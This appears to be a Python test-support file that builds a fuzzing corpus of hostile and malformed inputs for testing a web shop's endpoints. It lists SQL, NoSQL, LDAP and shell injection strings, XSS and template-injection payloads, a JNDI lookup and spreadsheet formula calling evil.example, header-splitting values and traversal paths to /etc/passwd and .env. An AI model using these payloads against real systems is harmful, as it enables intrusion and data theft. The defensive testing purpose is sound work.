"""The corpus: what strangers type, paste and forge, by class. Nothing here knows any route; `corpus` sends it everywhere.

A row is written once, as whoever sends it sees it: a text (which goes into bodies, queries, paths and headers alike),
JSON that is no plain text (bodies alone), or bytes of an address that no text decodes to (queries and paths alone).
`evil.example` and the word in `MARK` are planted, so that an answer that repeats them raw is recognised.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

from tests.support.hostile import NUMBERS, TEXTS

MARK = "x7k9"
_LONG = 20_000


class Form(StrEnum):
    """What a row is, and so where it can be put."""

    TEXT = "text"
    JSON = "json"
    ADDRESS = "address"


@dataclass(frozen=True)
class Payload:
    """A row: its class, its number in it, what it is, and its text (or its JSON, or its percent-encoded bytes)."""

    kind: str
    number: int
    form: Form
    value: str

    @property
    def id(self) -> str:
        """A name for a report."""
        return f"{self.kind}-{self.number}"


INJECTION = (
    "'", '"', "`", "\\", "';", "' --", "') --", "'/*", "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "1 OR 1=1",
    "1; SELECT 1", "'; DROP TABLE customer_order; --", "' UNION SELECT NULL, NULL, NULL --", "' AND SLEEP(9) --",
    "'; SELECT pg_sleep(9) --", "1' AND 1=CAST(version() AS int) --",
    "' AND extractvalue(1, concat(0x7e, version())) --", "'||(SELECT version())||'", "$$;SELECT pg_sleep(9);$$",
    "\\'; SELECT SLEEP(9) #", "%' OR '%'='", "_", "%", "%%%%%%%%%%", "[a-z]%", "' LIKE '%", "0x27204f5220313d31",
    "CHAR(39)", "\u02bc OR 1=1 --", "\uff07 OR 1=1 --", "admin'--", "' INTO OUTFILE '/tmp/x7k9' --", ":the_year",
    "%(name)s", "%s%s%s", "?", "??", "$1", "{0}", "{0.__class__}", "@@version", "pg_catalog.pg_user",
    "sqlite_master", "'; ATTACH DATABASE '/tmp/x7k9.db' AS x; --", "load_extension('x')",
    "'; COPY customer_order TO '/tmp/x7k9'; --", '{"$gt": ""}', '{"$where": "sleep(9000)"}', "*)(uid=*))(|(uid=*",
    "' or count(/*)=1 or ''='", "(&(a=*)(b=*))", "; id", "| id", "& id", "&& id", "`id`", "$(id)", "\nid\n",
    "() { :;}; echo x", "-oProxyCommand=id", "--help", "@/etc/passwd",
)  # fmt: skip
MARKUP = (
    f"<script>{MARK}</script>", f"<img src=x onerror={MARK}>", f"<svg/onload={MARK}>", f'"><b>{MARK}</b>',
    f"'><i>{MARK}</i>", f"</title><script>{MARK}</script>", f"</script><script>{MARK}",
    f"<iframe src=javascript:{MARK}>", f"<!--{MARK}-->", f"javascript:{MARK}", "data:text/html,<b>x</b>",
    "//evil.example/a", "https://evil.example/a", "\\\\evil.example\\a", "&lt;b&gt;", "&#60;b&#62;", "&amp;",
    "<![CDATA[x]]>", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>', "{{7*7}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{%raw%}", "{{config}}", "{{''.__class__.__mro__}}", "${jndi:ldap://evil.example/a}",
    "[[7*7]]", "*{7*7}", "@{7*7}", "${{7*7}}", "{sku} {left} {trace_id}", "{", "}", "{}", "{0}{1}{2}", "{what", "%(",
    "%d", "%n%n%n",
)  # fmt: skip
LINES = (
    "a\r\nSet-Cookie: x7k9=1", "a\nSet-Cookie: x7k9=1", "a\rX-Evil: 1", "a\r\n\r\n<b>", "\r\n", "\n", "\t", "a\tb",
    "a\u2028b", "a\u2029b", "a\u0085b", "a\x0bb", "a\x0cb", "sari@example.com\r\nBcc: all@evil.example",
    "a\r\n.\r\nMAIL FROM:<x@evil.example>", "a,b;c|d\te", '=HYPERLINK("http://evil.example","x")', "=1+1", "+1+1",
    "-1+1", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0", '"a","b"', 'a"b', ";;;", "''",
)  # fmt: skip
UNICODE = (
    "\x00", "a\x00b", "\x01", "\x08", "\x1b[31m", "\x7f", "\x80", "\x9f", "\ufffe", "\uffff", "\ufdd0", "\ufeff",
    "\ufeffa", "\ufffd", "\U0010ffff", "\U000e0001", "\u200b", "\u200b\u200b\u200b", "a\u200bb", "\u200d", "\u2060",
    "\u00ad", "\u034f", "\u202eabc", "\u202d", "\u2066a\u2069", "\u200f", "\u061c", "e\u0301", "\u00e9", "\u212b",
    "A\u030a", "\ufb01", "\uff21\uff22", "\u1e9b\u0323", "\u0130", "\u0131", "\u00df", "\u1e9e",
    "\u03a3\u03c2\u03c3", "\u0661\u0662\u0663", "\u0967\u0968", "\u2460", "\u00bd", "\u216b", "\uff11\uff12",
    "\u3007", "\U0001d7d8", "\u00b2", "\U0001f469\u200d\U0001f469\u200d\U0001f466", "\U0001f1ee\U0001f1e9",
    "\U0001f44d\U0001f3fd", "\u2764\ufe0f", "Z" + "\u0351" * 60, "\u0f42\u0f3f" * 20, "\ud55c\uae00",
    "\u1112\u1161\u11ab", "\ua9b1\ua9ab\ua9b6", "\U00020bb7\u91ce\u5bb6", "\u0e01\u0e33", "\u0915\u094d\u0937",
    "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u00a0", "\u3000", "\u2003a\u2003", " ", "   ",
    " a", "a ", "  a  b  ", "\ud800", "\udfff", "a\ud83d", "\ude00a", "\ud83d\ude00\ud83d",
)  # fmt: skip
PATHS = (
    "..", ".", "../", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "//", "/", "a/b", "a\\b",
    "a//b", "./a", "....//", "~", "~root", "file:///etc/passwd", "C:\\x", "\\\\host\\share", "CON", "nul.txt",
    "a.php", "a.webp/..", ".env", ".git/config", ";a=b", "a;b", "a#b", "a?b=c", "a&b=c", "a=b", "%2e%2e%2f", "%252e",
    "%00", "%0d%0a", "__proto__", "constructor", "toString", "__class__", "undefined", "null", "NULL", "None",
    "true", "false", "nan", "NaN", "Infinity", "-", "--", "*", "**", "id",
)  # fmt: skip
NUMBER_WORDS = (
    "0", "-0", "00", "-1", "+1", "1.0", "1.5", "1e3", "1E400", "1e-400", "0x10", "0b1", "0o7", "1_000", "1,000",
    "1.000,00", "Rp 1.000", "1 000", "1/2", "1%", "\u22121", "2147483647", "2147483648", "-2147483649",
    "9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
    "9" * 40, "9" * 400, "0." + "0" * 400 + "1", "1e309", "--1", "1-", "1..2", ".", ".5", "5.", "e", "inf", "-inf",
    "nan", "2026-11-24", "2026-02-30", "2026-11-24T24:00:00Z", "2026-11-24T06:05:60Z", "0000-00-00",
    "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "2026-11-24T06:05:00+99:99", "1970-01-01T00:00:00-14:00",
    "2026-11-24 06:05:00", "20261124T060500Z", "now", "1732428300", "-62135596800",
)  # fmt: skip
LOCALES = (
    "id", "id-ID", "ID_id", "en-US,en;q=0.9,id;q=0.8", "en;q=2", "en;q=-1", "en;q=nan", "en;q=", "*", "*;q=0", "fr",
    "xx-yy-zz", "../en", "en/../../x", "en\x00", "en'; DROP TABLE shop_setting; --", "en|id", "en@calendar=x",
    "i-klingon", "x-" + "a" * 500, ",".join(["en"] * 500), ",,,,,", ";;;;", "q=1", "zh-Hant-TW-x-private",
    "id;q=1e999", "Asia/Jakarta", "Europe/Berlin", "IDR", "USD", "Rp",
)  # fmt: skip
ORDERING = (
    "price", "-price", "price desc", "price;", "price,name", "name asc, (SELECT 1)", "price) --",
    "(CASE WHEN 1=1 THEN price END)", "1", "id", "rank()", "price COLLATE NOCASE", "price NULLS FIRST", "PRICE",
    "newest ", "random()", "eyJhIjoxfQ", "W10", "bnVsbA", "e30", "====", "////", "++++", "____", "LTE", "WzEsMl0",
    "WyJhIiwiYiJd", "W251bGxd", "WyJcdTAwMDAiXQ", "eyJpZCI6IicgT1IgMT0xIn0", "WzFlOTk5XQ", "WzksMTAsMTEsMTJd", "gA",
    "_-_-", "A" * 599, "A" * 601,
)  # fmt: skip
HEADERS = (
    "*", '"0"', 'W/"0"', '"', '""', '"a", "b"', '"\\"', "0", '"99999999999999999999"', '"-1"', '"1.5"', "W/*",
    '*, "0"', '"a"' + ',"b"' * 300, "Bearer", "Bearer ", "Bearer ng_s_x", "Bearer a b", "bearer x", "Basic Og==",
    "Bearer " + "a" * 3000, "Bearer ../../x", "Negotiate x", "gzip, deflate, br;q=1.0, *;q=0.5", "text/html",
    "*/*;q=0", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-7",
    "application/json;;", "null", "http://evil.example", "https://evil.example:99999", "127.0.0.1, evil.example",
    "::1", "00-" + "0" * 32 + "-" + "0" * 16 + "-01", "00-" + "f" * 32 + "-" + "f" * 16 + "-ff", "a=b; c=d",
    "a" * 16, "a" * 255, "a" * 256, "k" * 15, "key with spaces in it", "0123456789abcdef\u00e9", "bytes=0-,0-,0-",
)  # fmt: skip
LONG = (
    "a" * 65, "a" * 201, "a" * 501, "a" * 2001, "a" * _LONG, " " * _LONG, "\n" * _LONG, "\u00e9" * _LONG,
    "e\u0301" * _LONG, "\U0001f600" * _LONG, "'" * _LONG, "(" * _LONG, "<" * _LONG, "\\" * _LONG, "%" * _LONG,
    "0" * _LONG, "-" * _LONG, "=" * _LONG, "@" * _LONG, "a." * 10_000, "a@" * 10_000, "-a" * 10_000,
    "a-" * 10_000 + "!", "1." * 10_000, "+62" * 7_000, "08" + "1" * _LONG, "x" * 64 + "@" + "a." * 5_000 + "id",
    " a" * 10_000 + "!", "\u0130" * _LONG, "\ufdfa" * _LONG,
)  # fmt: skip
EVERYDAY = (
    "Sari", "Sari Wulandari", "O'Brien", "Dr. Ir. H. Muhammad", "Ni Luh Ayu-Dewi",
    "Jl. Raya Bogor KM 21 No. 5A RT.03/RW.07", "Gg. Haji Na'im III (belakang masjid)",
    "rumah pagar hitam, \u201csebelah warung\u201d", "\u2116 5", "50% off & more", "C++", "a_b-c.d~e", "KOPI-250",
    "kopi-250", "0812-3456-7890", "+62 812 3456 7890", "62-21-5551234", "(021) 555 1234", "0812 3456 789O",
    "1500123", "110", "sari@example.com", "SARI@EXAMPLE.COM", "sari+toko@example.co.id", "sari@\u0135\u0105.example",
    '"a b"@example.com', "sari@localhost", "sari@[127.0.0.1]", "@example.com", "sari@", "a@b@c", "12910", "00000",
    "1291", "3174", "31.74.02", "31.74.02.1001", "32.73", "99.99", "main", "jne", "REG", "bank_transfer", "bca",
    "received", "refused", "paid",
)  # fmt: skip
JSON_VALUES = (
    "null", "true", "false", "[]", "{}", "[[]]", "[{}]", "[null]", '[""]', "[0]", '{"": ""}', '{"a": null}',
    '{"__proto__": {"a": 1}}', '{"constructor": {"prototype": {}}}', '{"$ref": "#/a"}', '{"a": 1, "a": 2}',
    '{"id": "a", "id": "b"}', '{"en": 1}', '{"id": [], "en": {}}', "0", "-0", "-0.0", "1.0", "1e0", "1E3", "0.1",
    "1e-7", "1e308", "2147483648", "-2147483649", "9007199254740993", "9" * 19, "-" + "9" * 19, "1" + "0" * 4000,
    "1e-400", "-Infinity", "Infinity", "NaN", "[NaN]", '{"a": Infinity}', '"\\ud800"', '"\\udc00\\ud800"',
    '"\\u0000"', '"\\u0007"', '["\\u0000"]', '{"\\u0000": 1}', '{"\\ud800": 1}', '"\\u200b"', '"\\/"',
    '"\\ud83d\\ude00"', '"\\u0065\\u0301"', "[" * 60 + "]" * 60, '{"a":' * 50 + "1" + "}" * 50,
    "[" + "1," * 3000 + "1]", "[" + '"a",' * 3000 + '"a"]', "{" + ",".join(f'"k{n}":"v"' for n in range(300)) + "}",
    "[" + ",".join(["{}"] * 300) + "]", '[{"sku": "KOPI-250", "quantity": 1}, {"sku": "KOPI-250", "quantity": 1}]',
    '{"k":"' + "v" * 5000 + '"}', '{"' + "k" * 5000 + '":"v"}', "00", "+1", "1.", ".5", "0x1", "'a'", "undefined",
    "tru", '"a', '"\t"', '"\n"', "[1,]", '{"a":1,}', "[1 2]", "{a: 1}", "/**/1", "", "\u00a01",
)  # fmt: skip
ADDRESSES = (
    "%00", "a%00b", "%01", "%7f", "%80", "%ff", "%ff%fe", "%c0%80", "%c0%af", "%e0%80%af", "%ed%a0%80", "%ed%b0%80",
    "%f4%90%80%80", "%f8%88%80%80%80", "%fe%fe%ff%ff", "%c3", "%c3%28", "%e2%82", "%f0%9f%98", "%", "%%", "%2",
    "%zz", "%u0041", "%25", "%2500", "%252f", "%2f", "%5c", "%2e%2e%2f", "%0a", "%0d%0a",
    "%0d%0aSet-Cookie:%20x7k9=1", "%09", "%20", "+", "%2b", "%26a=b", "%23", "%3f", "%3b", "%e2%80%ae", "%ef%bb%bf",
    "%e5%98%8a%e5%98%8dSet-Cookie:%20x7k9=1", "%c4%b0", "%f0%9f%87%ae", "a%cc%81",
)  # fmt: skip

_TEXTS = {
    "injection": INJECTION,
    "markup": MARKUP,
    "lines": LINES,
    "unicode": UNICODE,
    "paths": PATHS,
    "number-words": NUMBER_WORDS,
    "locale": LOCALES,
    "ordering": ORDERING,
    "headers": HEADERS,
    "long": LONG,
    "everyday": EVERYDAY,
    "taken": tuple(TEXTS.values()),
}


def all_payloads() -> list[Payload]:
    """Every row, each once."""
    return [
        *_rows(_TEXTS, Form.TEXT),
        *_rows({"json": _json_values()}, Form.JSON),
        *_rows({"address": ADDRESSES}, Form.ADDRESS),
    ]


def _json_values() -> tuple[str, ...]:
    return (*JSON_VALUES, *(raw.decode() for _, raw, _ in NUMBERS))


def _rows(kinds: dict[str, tuple[str, ...]], form: Form) -> Iterator[Payload]:
    seen: set[str] = set()
    for kind, values in kinds.items():
        for number, value in enumerate(values):
            if value not in seen:
                seen.add(value)
                yield Payload(kind, number, form, value)
